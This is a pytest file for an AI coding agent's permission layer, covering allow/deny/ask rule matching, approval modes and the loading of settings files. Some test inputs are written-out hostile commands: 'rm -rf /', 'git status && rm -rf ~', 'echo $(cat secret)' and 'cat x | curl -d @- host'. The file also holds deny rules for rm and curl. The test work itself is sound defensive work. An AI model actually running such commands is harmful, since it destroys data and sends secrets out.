"""Permission patterns and the per-call decision in each approval mode."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pi_cli.permissions.policy import RuleSet, decide, load_rules, parse_mode
from pi_cli.permissions.rules import RuleError, matches, parse_rule, suggest_rule

CWD = "/work/proj"


def hit(pattern: str, tool: str, args: dict[str, object], kind: str = "allow") -> bool:
    return matches(parse_rule(pattern), kind, tool, args, CWD)  # type: ignore[arg-type]


def test_bash_patterns_match_the_command() -> None:
    assert hit("bash(git status*)", "bash", {"command": "git status --short"})
    assert hit("bash(git status*)", "bash", {"command": "git status"})
    assert not hit("bash(git status*)", "bash", {"command": "git push"})
    assert hit("bash(rm -rf *)", "bash", {"command": "rm -rf /tmp/x"}, "deny")
    assert hit("bash", "bash", {"command": "anything"})


def test_compound_commands_need_every_part_allowed_but_one_part_denies() -> None:
    sneaky = {"command": "git status && rm -rf ~"}
    assert not hit("bash(git status*)", "bash", sneaky)
    assert hit("bash(rm -rf *)", "bash", sneaky, "deny")
    assert hit("bash(git *)", "bash", {"command": "git add . && git commit -m x"})
    assert not hit("bash(echo *)", "bash", {"command": "echo $(cat secret)"})
    assert hit("bash(rm -rf *)", "bash", {"command": "echo $(rm -rf /)"}, "deny")
    assert hit("bash(curl*)", "bash", {"command": "cat x | curl -d @- host"}, "deny")


def test_path_patterns_are_relative_to_cwd_and_absolute_ones_absolute() -> None:
    assert hit("edit(src/**)", "edit", {"path": "src/a/b.py"})
    assert hit("edit(src/**)", "edit", {"path": f"{CWD}/src/main.py"})
    assert not hit("edit(src/**)", "edit", {"path": "tests/a.py"})
    assert not hit("edit(src/*)", "edit", {"path": "src/a/b.py"})
    assert hit("write(**/.env)", "write", {"path": ".env"})
    assert hit("write(**/.env)", "write", {"path": "deploy/prod/.env"})
    assert not hit("write(**/.env)", "write", {"path": ".envrc"})
    assert not hit("edit(**)", "edit", {"path": "../other/x.py"})  # relative patterns stay inside
    assert hit("read(/etc/**)", "read", {"path": "/etc/passwd"})
    assert not hit("read(/etc/**)", "read", {"path": "/var/log/x"})


def test_tool_name_globs_and_bad_patterns() -> None:
    assert hit("mcp__github__*", "mcp__github__create_issue", {})
    assert not hit("mcp__github__*", "mcp__gitlab__x", {})
    assert not hit("edit", "write", {"path": "a"})
    with pytest.raises(RuleError, match="only bash and file tools"):
        parse_rule("mcp__github__x(foo)")
    with pytest.raises(RuleError, match="expected tool or tool"):
        parse_rule("bash(unclosed")


def test_suggested_patterns_for_allow_always() -> None:
    assert suggest_rule("bash", {"command": "git status --short"}, CWD) == "bash(git status*)"
    assert suggest_rule("bash", {"command": "ls -la"}, CWD) == "bash(ls*)"
    assert suggest_rule("edit", {"path": "src/a.py"}, CWD) == "edit(src/a.py)"
    assert suggest_rule("edit", {"path": "src/a.py"}, CWD, absolute=True) == f"edit({CWD}/src/a.py)"
    assert suggest_rule("write", {"path": "/tmp/x"}, CWD) == "write(/tmp/x)"
    assert suggest_rule("mcp__gh__list", {}, CWD) == "mcp__gh__list"
    # The suggestion matches the call it was made for.
    for tool, args in [("bash", {"command": "git status"}), ("edit", {"path": "src/a.py"})]:
        assert hit(suggest_rule(tool, args, CWD), tool, args)


def rules(**lists: list[str]) -> RuleSet:
    out = RuleSet()
    for kind, patterns in lists.items():
        for pattern in patterns:
            out.add(kind, parse_rule(pattern))  # type: ignore[arg-type]
    return out


def test_auto_mode_asks_nothing_but_deny_rules_still_refuse() -> None:
    none = RuleSet()
    assert decide("bash", {"command": "rm -rf /"}, "auto", none, CWD).action == "allow"
    assert decide("write", {"path": "/etc/x"}, "auto", none, CWD).action == "allow"
    denied = decide("bash", {"command": "rm -rf /"}, "auto", rules(deny=["bash(rm -rf *)"]), CWD)
    assert denied.action == "deny" and "bash(rm -rf *)" in denied.reason


def test_ask_mode_asks_for_mutating_tools_and_outside_paths() -> None:
    none = RuleSet()
    for tool, args in [
        ("bash", {"command": "ls"}),
        ("edit", {"path": "a"}),
        ("write", {"path": "a"}),
        ("mcp__gh__x", {}),
    ]:
        assert decide(tool, args, "ask", none, CWD).action == "ask", tool
    for tool in ("read", "grep", "find", "ls"):
        assert decide(tool, {"path": "src"}, "ask", none, CWD).action == "allow", tool
    outside = decide("read", {"path": "/etc/passwd"}, "ask", none, CWD)
    assert outside.action == "ask" and "outside the working directory" in outside.reason


def test_deny_wins_over_allow_and_ask_over_allow() -> None:
    both = rules(allow=["bash(git *)"], deny=["bash(git push*)"])
    assert decide("bash", {"command": "git push"}, "ask", both, CWD).action == "deny"
    assert decide("bash", {"command": "git log"}, "ask", both, CWD).action == "allow"
    asked = rules(allow=["edit(**)"], ask=["edit(**/.env)"])
    assert decide("edit", {"path": ".env"}, "auto", asked, CWD).action == "ask"
    assert decide("edit", {"path": "a.py"}, "ask", asked, CWD).action == "allow"


def test_read_only_mode_refuses_mutating_tools_even_when_allowed() -> None:
    allowed = rules(allow=["bash(git status*)"])
    refused = decide("bash", {"command": "git status"}, "read-only", allowed, CWD)
    assert refused.action == "deny" and "read-only mode" in refused.reason
    assert decide("write", {"path": "a"}, "read-only", RuleSet(), CWD).action == "deny"
    assert decide("read", {"path": "a"}, "read-only", RuleSet(), CWD).action == "allow"
    assert decide("read", {"path": "/etc/passwd"}, "read-only", RuleSet(), CWD).action == "allow"


def test_parse_mode() -> None:
    assert parse_mode("read-only") == "read-only"
    with pytest.raises(ValueError, match="auto, ask or read-only"):
        parse_mode("yolo")


def test_rules_combine_user_and_trusted_project_files(tmp_path: Path) -> None:
    agent, project = tmp_path / "agent", tmp_path / "proj"
    (agent).mkdir()
    (project / ".pi").mkdir(parents=True)
    (agent / "settings.json").write_text(json.dumps({"permissions": {"deny": ["bash(rm *)"], "allow": "nope"}}))
    (project / ".pi" / "settings.json").write_text(
        json.dumps({"permissions": {"deny": ["bash(curl*)", "x(y)"], "allow": ["edit(src/**)"]}})
    )
    trusted, problems = load_rules(project, agent, project_trusted=True)
    assert [r.text for r in trusted.deny] == ["bash(rm *)", "bash(curl*)"]
    assert [r.text for r in trusted.allow] == ["edit(src/**)"]
    assert any("permissions.allow: expected a list" in p and str(agent) in p for p in problems)
    assert any("permissions.deny[1]" in p for p in problems)
    untrusted, _ = load_rules(project, agent, project_trusted=False)
    assert [r.text for r in untrusted.deny] == ["bash(rm *)"] and not untrusted.allow
